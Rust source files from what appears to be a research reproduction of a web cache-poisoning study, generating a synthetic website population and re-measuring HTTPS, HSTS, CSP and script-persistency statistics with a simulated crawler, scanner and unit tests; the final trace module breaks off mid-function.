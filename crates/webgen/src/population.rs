//! Synthetic web population.
//!
//! The paper's measurement studies run over the Alexa top lists: 15K pages
//! for the persistency crawl (Figure 3) and the CSP/HSTS scans (Figure 5 and
//! the §V discussion), 100K for the HTTPS adoption numbers, 1M for the Google
//! Analytics share. Those lists and the live sites are not available offline,
//! so the reproduction generates a synthetic population whose *marginals* are
//! calibrated to the published numbers; the experiments then re-measure the
//! marginals from the generated population exactly the way the paper's
//! crawler and scanner would.

use crate::churn::{ChurningObject, StabilityClass};
use mp_httpsim::body::ResourceKind;
use mp_httpsim::csp::CspVersion;
use mp_httpsim::headers::names;
use mp_httpsim::hsts::HstsPolicy;
use mp_httpsim::message::Response;
use mp_httpsim::tls::{TlsDeployment, TlsVersion};
use mp_httpsim::transport::StaticOrigin;
use mp_httpsim::url::{Scheme, Url};
use mp_httpsim::Body;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

/// Marginal distributions used to generate the population. Defaults are the
/// paper's published measurement results.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PopulationConfig {
    /// Number of sites to generate (the paper uses 15 000 for most studies).
    pub size: usize,
    /// RNG seed; the same seed regenerates the identical population.
    pub seed: u64,
    /// Fraction of sites reachable over HTTPS at all (paper: 21 % HTTP-only).
    pub https_adoption: f64,
    /// Fraction of all sites still offering a broken SSL version (≈7 %).
    pub vulnerable_ssl: f64,
    /// Fraction of HTTP(S) responders sending an HSTS header (paper: 67.92 %
    /// send none, so 32.08 % do).
    pub hsts_adoption: f64,
    /// Fraction of sites present in the browser preload list
    /// (paper: 545 of 13 419 responders).
    pub hsts_preload: f64,
    /// Fraction of pages supplying any CSP header (paper: ≈4.7 %).
    pub csp_supplied: f64,
    /// Fraction of pages whose CSP actually contains directives (≈4.33 %).
    pub csp_with_rules: f64,
    /// Of pages with CSP, fraction using a deprecated header name (15.3 %).
    pub csp_deprecated: f64,
    /// Of pages with CSP rules, fraction using `connect-src`
    /// (paper: 160 uses across the 15K scan).
    pub csp_connect_src: f64,
    /// Of `connect-src` users, fraction configuring a wildcard (17 of 160).
    pub csp_connect_src_wildcard: f64,
    /// Fraction of sites embedding the shared analytics script (63 %).
    pub google_analytics: f64,
    /// Fraction of sites with at least one JavaScript object (Figure 3
    /// "Any .js", ≈88 %).
    pub sites_with_js: f64,
    /// Fraction of sites whose most stable object is never renamed during the
    /// study (Figure 3 name-persistency plateau, ≈75.3 %).
    pub permanent_best_object: f64,
}

impl Default for PopulationConfig {
    fn default() -> Self {
        PopulationConfig {
            size: 15_000,
            seed: 2021,
            https_adoption: 0.79,
            vulnerable_ssl: 0.07,
            hsts_adoption: 1.0 - 0.6792,
            hsts_preload: 545.0 / 13_419.0,
            csp_supplied: 0.047,
            csp_with_rules: 0.0433,
            csp_deprecated: 0.153,
            csp_connect_src: 160.0 / (0.047 * 15_000.0),
            csp_connect_src_wildcard: 17.0 / 160.0,
            google_analytics: 0.63,
            sites_with_js: 0.88,
            permanent_best_object: 0.753,
        }
    }
}

impl PopulationConfig {
    /// A small population for unit tests and quick examples.
    pub fn small(size: usize, seed: u64) -> Self {
        PopulationConfig {
            size,
            seed,
            ..Self::default()
        }
    }
}

/// The shared analytics host used by 63 % of sites (the paper's shared-file
/// propagation vector, §VI-B1).
pub const ANALYTICS_HOST: &str = "analytics.shared-metrics.example";
/// Path of the shared analytics script.
pub const ANALYTICS_PATH: &str = "/ga.js";

/// One generated website.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Website {
    /// Popularity rank (1-based).
    pub rank: usize,
    /// Host name.
    pub host: String,
    /// TLS deployment.
    pub tls: TlsDeployment,
    /// HSTS policy the site sends, if any.
    pub hsts: Option<HstsPolicy>,
    /// Whether the site is in the browser preload list.
    pub hsts_preloaded: bool,
    /// CSP header: which header name variant and the policy string, if any.
    pub csp: Option<(CspVersion, String)>,
    /// Whether the site embeds the shared analytics script.
    pub uses_google_analytics: bool,
    /// The site's JavaScript objects (may be empty).
    pub objects: Vec<ChurningObject>,
}

impl Website {
    /// The scheme the site is normally browsed over.
    pub fn scheme(&self) -> Scheme {
        if self.tls.version == TlsVersion::None {
            Scheme::Http
        } else {
            Scheme::Https
        }
    }

    /// The site's landing-page URL.
    pub fn index_url(&self) -> Url {
        Url::from_parts(self.scheme(), self.host.clone(), "/index.html")
    }

    /// URL of one of the site's objects (by its current path).
    pub fn object_url(&self, object: &ChurningObject) -> Url {
        Url::from_parts(self.scheme(), self.host.clone(), object.current_path.clone())
    }

    /// Returns `true` if the site has at least one JavaScript object.
    pub fn has_js(&self) -> bool {
        !self.objects.is_empty()
    }

    /// The most stable object — the attacker's preferred infection target
    /// (§VI-A "selecting persistent scripts").
    pub fn best_persistent_object(&self) -> Option<&ChurningObject> {
        self.objects.iter().min_by_key(|o| {
            // Rank permanent first, then slow churn, then fast churn.
            match o.class {
                StabilityClass::Permanent => (0, o.scheduled_rename_day.unwrap_or(u32::MAX)),
                StabilityClass::SlowChurn => (1, o.scheduled_rename_day.unwrap_or(u32::MAX)),
                StabilityClass::FastChurn => (2, 0),
            }
        })
    }

    /// Advances all of the site's objects by one day.
    pub fn advance_day(&mut self, rng: &mut StdRng) {
        for object in &mut self.objects {
            object.advance_day(rng);
        }
    }

    /// The HTML of the site's landing page, referencing every current object
    /// (and the shared analytics script when used).
    pub fn index_html(&self) -> String {
        let mut html = String::from("<html><head>\n");
        for object in &self.objects {
            html.push_str(&format!("  <script src=\"{}\"></script>\n", object.current_path));
        }
        if self.uses_google_analytics {
            html.push_str(&format!(
                "  <script src=\"http://{ANALYTICS_HOST}{ANALYTICS_PATH}\"></script>\n"
            ));
        }
        html.push_str("</head><body><h1>");
        html.push_str(&self.host);
        html.push_str("</h1></body></html>\n");
        html
    }

    /// Materialises the site as a static origin server (landing page plus all
    /// current objects), so browsers in the simulation can actually visit it.
    pub fn to_origin(&self) -> StaticOrigin {
        let mut origin = StaticOrigin::new(self.host.clone());
        let mut index = Response::ok(Body::text(ResourceKind::Html, self.index_html()))
            .with_cache_control("no-cache");
        if let Some(policy) = &self.hsts {
            index = index.with_header(names::STRICT_TRANSPORT_SECURITY, &policy.to_header_value());
        }
        if let Some((version, value)) = &self.csp {
            let header = match version {
                CspVersion::Standard => names::CONTENT_SECURITY_POLICY,
                CspVersion::XContentSecurityPolicy => names::X_CONTENT_SECURITY_POLICY,
                CspVersion::XWebkitCsp => names::X_WEBKIT_CSP,
            };
            index = index.with_header(header, value);
        }
        origin.put("/index.html", index);
        for object in &self.objects {
            origin.put_text(
                &object.current_path,
                ResourceKind::JavaScript,
                &format!("/* {} */ function lib_{}() {{ return {}; }}", self.host, object.renames, object.current_hash),
                "public, max-age=604800",
            );
        }
        origin
    }
}

/// A generated population of websites.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Population {
    /// The configuration it was generated from.
    pub config: PopulationConfig,
    /// The sites, ordered by rank.
    pub sites: Vec<Website>,
}

impl Population {
    /// Generates a population from the configured marginals.
    pub fn generate(config: PopulationConfig) -> Population {
        let mut rng = StdRng::seed_from_u64(config.seed);
        let mut sites = Vec::with_capacity(config.size);
        for rank in 1..=config.size {
            sites.push(Self::generate_site(&config, rank, &mut rng));
        }
        Population { config, sites }
    }

    fn generate_site(config: &PopulationConfig, rank: usize, rng: &mut StdRng) -> Website {
        let host = format!("site{rank:05}.example");

        let tls = if rng.gen_bool(config.https_adoption) {
            if rng.gen_bool(config.vulnerable_ssl / config.https_adoption) {
                TlsDeployment::legacy_ssl(if rng.gen_bool(0.4) {
                    TlsVersion::Ssl2
                } else {
                    TlsVersion::Ssl3
                })
            } else {
                TlsDeployment::modern()
            }
        } else {
            TlsDeployment::plaintext()
        };

        // `hsts_adoption` is a marginal over all responders; HSTS can only be
        // sent by HTTPS sites, so condition the per-site draw on that.
        let hsts_given_https = (config.hsts_adoption / config.https_adoption).min(1.0);
        let hsts = if tls.version != TlsVersion::None && rng.gen_bool(hsts_given_https) {
            Some(HstsPolicy {
                max_age: 31_536_000,
                include_subdomains: rng.gen_bool(0.5),
                preload: false,
            })
        } else {
            None
        };
        let hsts_preloaded = hsts.is_some() && rng.gen_bool(config.hsts_preload / config.hsts_adoption);

        let csp = if rng.gen_bool(config.csp_supplied) {
            let version = if rng.gen_bool(config.csp_deprecated) {
                if rng.gen_bool(0.5) {
                    CspVersion::XContentSecurityPolicy
                } else {
                    CspVersion::XWebkitCsp
                }
            } else {
                CspVersion::Standard
            };
            let with_rules = rng.gen_bool(config.csp_with_rules / config.csp_supplied);
            let value = if !with_rules {
                // Supplied but no enforceable directives.
                "upgrade-insecure-requests".to_string()
            } else {
                let mut policy = String::from("default-src 'self'; script-src 'self' 'unsafe-inline'");
                if rng.gen_bool(config.csp_connect_src) {
                    if rng.gen_bool(config.csp_connect_src_wildcard) {
                        policy.push_str("; connect-src *");
                    } else {
                        policy.push_str("; connect-src 'self'");
                    }
                }
                policy
            };
            Some((version, value))
        } else {
            None
        };

        let uses_google_analytics = rng.gen_bool(config.google_analytics);

        let mut objects = Vec::new();
        if rng.gen_bool(config.sites_with_js) {
            // The site's "anchor" (most stable) object.
            let anchor_permanent = rng.gen_bool(config.permanent_best_object / config.sites_with_js);
            let anchor = if anchor_permanent {
                ChurningObject::new("/static/js/main.js", StabilityClass::Permanent, rng.gen())
            } else {
                // Renamed at a uniformly random point of the 100-day study,
                // which yields Figure 3's gradual decline between day 5 and
                // day 100.
                let rename_day = rng.gen_range(1..=100);
                ChurningObject::new("/static/js/main.js", StabilityClass::SlowChurn, rng.gen())
                    .with_scheduled_rename(rename_day)
            };
            objects.push(anchor);
            // A few additional, less stable scripts.
            let extra = rng.gen_range(0..4);
            for i in 0..extra {
                let class = if rng.gen_bool(0.5) {
                    StabilityClass::SlowChurn
                } else {
                    StabilityClass::FastChurn
                };
                objects.push(ChurningObject::new(
                    format!("/static/js/extra{i}.js"),
                    class,
                    rng.gen(),
                ));
            }
        }

        Website {
            rank,
            host,
            tls,
            hsts,
            hsts_preloaded,
            csp,
            uses_google_analytics,
            objects,
        }
    }

    /// Number of sites.
    pub fn len(&self) -> usize {
        self.sites.len()
    }

    /// Returns `true` if the population is empty.
    pub fn is_empty(&self) -> bool {
        self.sites.is_empty()
    }

    /// Hosts in the browser preload list (for building browsers).
    pub fn preloaded_hosts(&self) -> Vec<String> {
        self.sites
            .iter()
            .filter(|s| s.hsts_preloaded)
            .map(|s| s.host.clone())
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn population(size: usize) -> Population {
        Population::generate(PopulationConfig::small(size, 7))
    }

    #[test]
    fn generation_is_deterministic_for_a_seed() {
        let a = population(200);
        let b = population(200);
        assert_eq!(a, b);
        let c = Population::generate(PopulationConfig::small(200, 8));
        assert_ne!(a, c);
    }

    #[test]
    fn marginals_are_roughly_calibrated() {
        let pop = population(4000);
        let n = pop.len() as f64;
        let https = pop.sites.iter().filter(|s| s.tls.version != TlsVersion::None).count() as f64 / n;
        assert!((https - 0.79).abs() < 0.05, "https adoption {https}");
        let with_js = pop.sites.iter().filter(|s| s.has_js()).count() as f64 / n;
        assert!((with_js - 0.88).abs() < 0.05, "sites with js {with_js}");
        let ga = pop.sites.iter().filter(|s| s.uses_google_analytics).count() as f64 / n;
        assert!((ga - 0.63).abs() < 0.05, "google analytics {ga}");
        let csp = pop.sites.iter().filter(|s| s.csp.is_some()).count() as f64 / n;
        assert!((csp - 0.047).abs() < 0.03, "csp adoption {csp}");
    }

    #[test]
    fn best_persistent_object_prefers_permanent_scripts() {
        let pop = population(500);
        let site_with_permanent = pop
            .sites
            .iter()
            .find(|s| s.objects.iter().any(|o| o.class == StabilityClass::Permanent && o.scheduled_rename_day.is_none()))
            .expect("some site has a permanent object");
        let best = site_with_permanent.best_persistent_object().unwrap();
        assert_eq!(best.class, StabilityClass::Permanent);
    }

    #[test]
    fn site_materialises_to_a_working_origin() {
        let pop = population(50);
        let site = pop.sites.iter().find(|s| s.has_js()).unwrap();
        let mut origin = site.to_origin();
        let index = mp_httpsim::transport::Exchange::exchange(
            &mut origin,
            &mp_httpsim::message::Request::get(site.index_url()),
        );
        assert!(index.status.is_success());
        let html = index.body.as_text();
        assert!(html.contains("<script src=\"/static/js/main.js\""));
        // The referenced object is actually served.
        let object = site.best_persistent_object().unwrap();
        let response = mp_httpsim::transport::Exchange::exchange(
            &mut origin,
            &mp_httpsim::message::Request::get(site.object_url(object)),
        );
        assert!(response.status.is_success());
        assert_eq!(response.body.kind, ResourceKind::JavaScript);
    }

    #[test]
    fn analytics_reference_appears_when_used() {
        let pop = population(100);
        let user = pop.sites.iter().find(|s| s.uses_google_analytics).unwrap();
        assert!(user.index_html().contains(ANALYTICS_HOST));
        if let Some(nonuser) = pop.sites.iter().find(|s| !s.uses_google_analytics) {
            assert!(!nonuser.index_html().contains(ANALYTICS_HOST));
        }
    }

    #[test]
    fn hsts_only_on_https_sites() {
        let pop = population(1000);
        for site in &pop.sites {
            if site.hsts.is_some() {
                assert!(site.tls.version != TlsVersion::None, "{} has HSTS without TLS", site.host);
            }
        }
        assert!(!pop.preloaded_hosts().is_empty());
    }
}
