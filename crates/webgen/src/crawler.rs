//! The daily crawler and the persistency analysis of Figure 3.
//!
//! The paper ran a crawler daily for 100 days over the 15K-top pages,
//! recording every object's name and content hash, and then computed — for
//! each measurement day *d* — the fraction of sites that (a) serve any
//! JavaScript at all, (b) still serve at least one JavaScript object under
//! its day-zero *name*, and (c) still serve at least one object with its
//! day-zero *content hash*. This module replays that pipeline over a
//! generated [`Population`].

use crate::population::Population;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// The three series plotted in Figure 3, as percentages of all sites.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct PersistencySeries {
    /// Measurement day for each data point (1-based).
    pub days: Vec<u32>,
    /// Percentage of sites serving at least one `.js` object on that day.
    pub any_js: Vec<f64>,
    /// Percentage of sites with ≥1 object name-persistent since day zero.
    pub name_persistent: Vec<f64>,
    /// Percentage of sites with ≥1 object hash-persistent since day zero.
    pub hash_persistent: Vec<f64>,
}

impl PersistencySeries {
    /// The value of a series at a given day (if that day was measured).
    pub fn at(&self, day: u32) -> Option<PersistencyPoint> {
        let idx = self.days.iter().position(|&d| d == day)?;
        Some(PersistencyPoint {
            day,
            any_js: self.any_js[idx],
            name_persistent: self.name_persistent[idx],
            hash_persistent: self.hash_persistent[idx],
        })
    }

    /// The final measurement.
    pub fn last(&self) -> Option<PersistencyPoint> {
        self.days.last().and_then(|&d| self.at(d))
    }
}

/// One point of the Figure 3 curves.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct PersistencyPoint {
    /// Measurement day.
    pub day: u32,
    /// Percentage of sites with any JavaScript.
    pub any_js: f64,
    /// Percentage of sites with a name-persistent object.
    pub name_persistent: f64,
    /// Percentage of sites with a hash-persistent object.
    pub hash_persistent: f64,
}

/// Snapshot of one site on one day, as the crawler records it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SiteSnapshot {
    /// The site host.
    pub host: String,
    /// Observed objects: path → content hash. Ordered so snapshot
    /// comparisons and any future serialisation are deterministic.
    pub objects: BTreeMap<String, u64>,
}

/// The crawler: replays `days` daily snapshots over a copy of a population.
#[derive(Debug, Clone)]
pub struct Crawler {
    population: Population,
    rng: StdRng,
}

impl Crawler {
    /// Creates a crawler over (a copy of) the population. The churn draws use
    /// a seed derived from the population's own seed so a given population
    /// always produces the same crawl.
    pub fn new(population: Population) -> Self {
        let seed = population.config.seed.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        Crawler {
            population,
            rng: StdRng::seed_from_u64(seed),
        }
    }

    /// Takes today's snapshot of every site.
    pub fn snapshot(&self) -> Vec<SiteSnapshot> {
        self.population
            .sites
            .iter()
            .map(|site| SiteSnapshot {
                host: site.host.clone(),
                objects: site
                    .objects
                    .iter()
                    .map(|o| {
                        let obs = o.observe();
                        (obs.path, obs.content_hash)
                    })
                    .collect(),
            })
            .collect()
    }

    /// Advances the population by one day of churn.
    pub fn advance_day(&mut self) {
        for site in &mut self.population.sites {
            site.advance_day(&mut self.rng);
        }
    }

    /// Runs a `days`-long daily crawl and computes the Figure 3 series.
    ///
    /// Day 1 is the baseline crawl; persistency on day *d* compares day *d*'s
    /// snapshot against the baseline.
    pub fn run(&mut self, days: u32) -> PersistencySeries {
        let baseline = self.snapshot();
        let total_sites = baseline.len() as f64;
        let mut series = PersistencySeries::default();

        for day in 1..=days {
            if day > 1 {
                self.advance_day();
            }
            let today = self.snapshot();
            let mut any_js = 0usize;
            let mut name_persistent = 0usize;
            let mut hash_persistent = 0usize;
            for (base, now) in baseline.iter().zip(today.iter()) {
                if !now.objects.is_empty() {
                    any_js += 1;
                }
                if base.objects.keys().any(|path| now.objects.contains_key(path)) {
                    name_persistent += 1;
                }
                if base
                    .objects
                    .iter()
                    .any(|(path, hash)| now.objects.get(path) == Some(hash))
                {
                    hash_persistent += 1;
                }
            }
            series.days.push(day);
            series.any_js.push(100.0 * any_js as f64 / total_sites);
            series.name_persistent.push(100.0 * name_persistent as f64 / total_sites);
            series.hash_persistent.push(100.0 * hash_persistent as f64 / total_sites);
        }
        series
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::PopulationConfig;

    fn series(sites: usize, days: u32) -> PersistencySeries {
        let population = Population::generate(PopulationConfig::small(sites, 42));
        Crawler::new(population).run(days)
    }

    #[test]
    fn series_has_one_point_per_day() {
        let s = series(300, 20);
        assert_eq!(s.days.len(), 20);
        assert_eq!(s.any_js.len(), 20);
        assert_eq!(s.name_persistent.len(), 20);
        assert_eq!(s.hash_persistent.len(), 20);
        assert_eq!(s.days[0], 1);
        assert_eq!(s.days[19], 20);
    }

    #[test]
    fn persistency_is_monotonically_non_increasing() {
        let s = series(500, 40);
        for window in s.name_persistent.windows(2) {
            assert!(window[1] <= window[0] + 1e-9);
        }
        for window in s.hash_persistent.windows(2) {
            assert!(window[1] <= window[0] + 1e-9);
        }
    }

    #[test]
    fn hash_persistence_never_exceeds_name_persistence() {
        let s = series(500, 40);
        for (hash, name) in s.hash_persistent.iter().zip(s.name_persistent.iter()) {
            assert!(hash <= name);
        }
    }

    #[test]
    fn day_one_name_persistence_matches_any_js() {
        let s = series(400, 5);
        // On the baseline day every site with js is trivially persistent.
        assert!((s.name_persistent[0] - s.any_js[0]).abs() < 1e-9);
    }

    #[test]
    fn figure3_shape_emerges_at_scale() {
        let s = series(3000, 100);
        let day5 = s.at(5).unwrap();
        let day100 = s.at(100).unwrap();
        // Any-js stays roughly flat around 88 %.
        assert!((day5.any_js - 88.0).abs() < 4.0, "any_js at day 5 = {}", day5.any_js);
        // Name persistency ≈87.5 % at five days, declining to ≈75.3 % at 100.
        assert!((day5.name_persistent - 87.5).abs() < 4.0, "day5 = {}", day5.name_persistent);
        assert!((day100.name_persistent - 75.3).abs() < 4.0, "day100 = {}", day100.name_persistent);
        assert!(day5.name_persistent > day100.name_persistent);
        // Hash persistency sits below name persistency.
        assert!(day100.hash_persistent < day100.name_persistent);
    }

    #[test]
    fn at_returns_none_for_unmeasured_days() {
        let s = series(100, 10);
        assert!(s.at(50).is_none());
        assert!(s.last().is_some());
        assert_eq!(s.last().unwrap().day, 10);
    }
}
