//! # mp-webgen
//!
//! Synthetic web population, object-churn model, daily crawler and
//! security-policy scanner for the *Master and Parasite Attack* reproduction.
//!
//! The paper's measurement studies (Figure 3, Figure 5 and the in-text
//! HTTPS/HSTS/Google-Analytics numbers) ran against the live Alexa top lists.
//! Offline, this crate generates a population whose marginals are calibrated
//! to the published results and re-runs the same measurement pipelines over
//! it:
//!
//! * [`population`] — site generation (TLS deployment, HSTS, CSP, analytics
//!   usage, JavaScript objects) and materialisation as servable origins,
//! * [`churn`] — per-object rename / content-change processes,
//! * [`crawler`] — the 100-day daily crawl and Figure 3 persistency series,
//! * [`policy`] — the HTTPS/SSL, HSTS and CSP scans (Figure 5).
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod churn;
pub mod crawler;
pub mod policy;
pub mod population;

pub use churn::{ChurningObject, StabilityClass};
pub use crawler::{Crawler, PersistencyPoint, PersistencySeries};
pub use policy::{scan, CspStats, HstsStats, PolicyScan, TlsStats};
pub use population::{Population, PopulationConfig, Website, ANALYTICS_HOST, ANALYTICS_PATH};
