//! Security-policy scanner: HTTPS/SSL adoption, HSTS coverage and CSP usage.
//!
//! Reproduces the measurement numbers quoted in §V (Discussion) and §VIII /
//! Figure 5 of the paper by scanning a generated [`Population`] the same way
//! the authors scanned the Alexa top lists.

use crate::population::Population;
use mp_httpsim::csp::{ContentSecurityPolicy, CspVersion, Directive};
use mp_httpsim::tls::TlsVersion;
use serde::{Deserialize, Serialize};

/// HTTPS / SSL-version adoption statistics (§V: "21 % of the 100,000-top
/// Alexa websites do not use HTTPS and almost 7 % use vulnerable SSL
/// versions").
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct TlsStats {
    /// Total sites scanned.
    pub total: usize,
    /// Sites with no TLS at all.
    pub http_only: usize,
    /// Sites still offering SSL 2.0 or 3.0.
    pub vulnerable_ssl: usize,
    /// Sites injectable at the transport layer (HTTP-only, broken SSL).
    pub transport_injectable: usize,
}

impl TlsStats {
    /// Percentage of sites without HTTPS.
    pub fn http_only_pct(&self) -> f64 {
        percentage(self.http_only, self.total)
    }

    /// Percentage of sites with vulnerable SSL versions.
    pub fn vulnerable_ssl_pct(&self) -> f64 {
        percentage(self.vulnerable_ssl, self.total)
    }
}

/// HSTS statistics (§V: of 13 419 responders, 67.92 % without HSTS, 545
/// preloaded, up to 96.59 % strippable).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct HstsStats {
    /// HTTP(S) responders considered.
    pub responders: usize,
    /// Responders sending no HSTS header.
    pub without_hsts: usize,
    /// Responders in the browser preload list.
    pub preloaded: usize,
}

impl HstsStats {
    /// Percentage of responders without HSTS.
    pub fn without_hsts_pct(&self) -> f64 {
        percentage(self.without_hsts, self.responders)
    }

    /// Percentage of responders vulnerable to SSL stripping: everything that
    /// is not preloaded (a dynamic HSTS header does not protect the first
    /// visit).
    pub fn strippable_pct(&self) -> f64 {
        percentage(self.responders - self.preloaded, self.responders)
    }
}

/// CSP statistics (Figure 5).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct CspStats {
    /// Pages scanned.
    pub total: usize,
    /// Pages supplying any CSP header.
    pub supplied: usize,
    /// Pages whose CSP contains at least one directive we enforce.
    pub with_rules: usize,
    /// Pages using the standard header name.
    pub standard_header: usize,
    /// Pages using `X-Content-Security-Policy`.
    pub x_csp_header: usize,
    /// Pages using `X-Webkit-CSP`.
    pub x_webkit_header: usize,
    /// Number of `connect-src` directives seen.
    pub connect_src_uses: usize,
    /// Of those, how many use a bare wildcard.
    pub connect_src_wildcards: usize,
}

impl CspStats {
    /// Percentage of pages supplying a CSP header.
    pub fn supplied_pct(&self) -> f64 {
        percentage(self.supplied, self.total)
    }

    /// Percentage of pages with enforceable rules.
    pub fn with_rules_pct(&self) -> f64 {
        percentage(self.with_rules, self.total)
    }

    /// Percentage of CSP-supplying pages using a deprecated header name.
    pub fn deprecated_pct(&self) -> f64 {
        percentage(self.x_csp_header + self.x_webkit_header, self.supplied)
    }
}

/// All policy measurements for one population.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct PolicyScan {
    /// TLS adoption numbers.
    pub tls: TlsStats,
    /// HSTS numbers.
    pub hsts: HstsStats,
    /// CSP numbers.
    pub csp: CspStats,
    /// Sites embedding the shared analytics script (the 63 % statistic).
    pub google_analytics: usize,
    /// Total sites.
    pub total: usize,
}

impl PolicyScan {
    /// Percentage of sites embedding the shared analytics script.
    pub fn google_analytics_pct(&self) -> f64 {
        percentage(self.google_analytics, self.total)
    }
}

fn percentage(part: usize, whole: usize) -> f64 {
    if whole == 0 {
        0.0
    } else {
        100.0 * part as f64 / whole as f64
    }
}

/// Scans a population and computes every policy statistic.
pub fn scan(population: &Population) -> PolicyScan {
    let mut result = PolicyScan {
        total: population.len(),
        ..Default::default()
    };

    for site in &population.sites {
        // TLS.
        result.tls.total += 1;
        match site.tls.version {
            TlsVersion::None => result.tls.http_only += 1,
            TlsVersion::Ssl2 | TlsVersion::Ssl3 => result.tls.vulnerable_ssl += 1,
            _ => {}
        }
        if site.tls.injectable() {
            result.tls.transport_injectable += 1;
        }

        // HSTS (every generated site responds, so every site is a responder).
        result.hsts.responders += 1;
        if site.hsts.is_none() {
            result.hsts.without_hsts += 1;
        }
        if site.hsts_preloaded {
            result.hsts.preloaded += 1;
        }

        // CSP.
        result.csp.total += 1;
        if let Some((version, value)) = &site.csp {
            result.csp.supplied += 1;
            match version {
                CspVersion::Standard => result.csp.standard_header += 1,
                CspVersion::XContentSecurityPolicy => result.csp.x_csp_header += 1,
                CspVersion::XWebkitCsp => result.csp.x_webkit_header += 1,
            }
            let policy = ContentSecurityPolicy::parse(*version, value);
            if !policy.is_empty() {
                result.csp.with_rules += 1;
            }
            if policy.defines(Directive::ConnectSrc) {
                result.csp.connect_src_uses += 1;
                if policy.has_wildcard(Directive::ConnectSrc) {
                    result.csp.connect_src_wildcards += 1;
                }
            }
        }

        if site.uses_google_analytics {
            result.google_analytics += 1;
        }
    }

    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::PopulationConfig;

    fn scanned(size: usize) -> PolicyScan {
        scan(&Population::generate(PopulationConfig::small(size, 99)))
    }

    #[test]
    fn tls_stats_match_the_papers_marginals() {
        let s = scanned(5000);
        assert!((s.tls.http_only_pct() - 21.0).abs() < 3.0, "{}", s.tls.http_only_pct());
        assert!((s.tls.vulnerable_ssl_pct() - 7.0).abs() < 2.5, "{}", s.tls.vulnerable_ssl_pct());
        // Everything HTTP-only or on broken SSL is transport-injectable.
        assert!(s.tls.transport_injectable >= s.tls.http_only + s.tls.vulnerable_ssl - 5);
    }

    #[test]
    fn hsts_stats_match_the_papers_marginals() {
        let s = scanned(5000);
        assert!((s.hsts.without_hsts_pct() - 67.92).abs() < 4.0, "{}", s.hsts.without_hsts_pct());
        assert!(s.hsts.strippable_pct() > 90.0);
        assert!(s.hsts.preloaded > 0);
    }

    #[test]
    fn csp_stats_match_figure5() {
        let s = scanned(8000);
        assert!((s.csp.supplied_pct() - 4.7).abs() < 1.5, "{}", s.csp.supplied_pct());
        assert!(s.csp.with_rules <= s.csp.supplied);
        assert!((s.csp.deprecated_pct() - 15.3).abs() < 8.0, "{}", s.csp.deprecated_pct());
        assert!(s.csp.connect_src_uses > 0);
        assert!(s.csp.connect_src_wildcards <= s.csp.connect_src_uses);
    }

    #[test]
    fn google_analytics_share_is_calibrated() {
        let s = scanned(4000);
        assert!((s.google_analytics_pct() - 63.0).abs() < 4.0, "{}", s.google_analytics_pct());
    }

    #[test]
    fn percentages_handle_empty_populations() {
        let s = scan(&Population::generate(PopulationConfig::small(0, 1)));
        assert_eq!(s.tls.http_only_pct(), 0.0);
        assert_eq!(s.hsts.strippable_pct(), 0.0);
        assert_eq!(s.csp.supplied_pct(), 0.0);
    }
}
