//! Packet capture and message-flow traces.
//!
//! The paper illustrates its attack phases with message-sequence diagrams
//! (Figures 1, 2 and 4). The simulator records every transmission in a
//! [`Trace`] so the experiment harness can regenerate those flows as text.
//!
//! Traces are built for the hot path: endpoint names are interned once into a
//! name table and events carry compact [`NameId`] references instead of
//! per-event `String`s, and the recorder mode ([`TraceMode`]) bounds memory —
//! [`TraceMode::Full`] keeps every event (the classic behaviour),
//! [`TraceMode::Ring`] keeps only the most recent *n*, and
//! [`TraceMode::SummaryOnly`] keeps nothing but the running [`TraceSummary`]
//! counters, so population-scale sweeps retain no per-packet memory at all.

use crate::packet::Packet;
use crate::time::Instant;
use serde::{Deserialize, Serialize};
use crate::fasthash::FxHashMap;
use std::collections::VecDeque;
use std::fmt;
use std::str::FromStr;

/// Index into a [`Trace`]'s interned name table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct NameId(pub u32);

/// How much of the packet flow a [`Trace`] retains.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum TraceMode {
    /// Keep every event (unbounded; the classic behaviour and the default).
    #[default]
    Full,
    /// Keep only the most recent `n` events in a ring buffer; older events are
    /// dropped (still counted in the [`TraceSummary`]).
    Ring(usize),
    /// Keep no events at all, only the running [`TraceSummary`] counters.
    SummaryOnly,
}

impl fmt::Display for TraceMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TraceMode::Full => f.write_str("full"),
            TraceMode::Ring(n) => write!(f, "ring:{n}"),
            TraceMode::SummaryOnly => f.write_str("summary"),
        }
    }
}

/// Error returned when parsing an unknown trace mode.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseTraceModeError {
    /// The string that did not match any mode.
    pub input: String,
}

impl fmt::Display for ParseTraceModeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "unknown trace mode {:?} (expected \"full\", \"summary\" or \"ring:<n>\")",
            self.input
        )
    }
}

impl std::error::Error for ParseTraceModeError {}

impl FromStr for TraceMode {
    type Err = ParseTraceModeError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let needle = s.trim().to_ascii_lowercase();
        match needle.as_str() {
            "full" => Ok(TraceMode::Full),
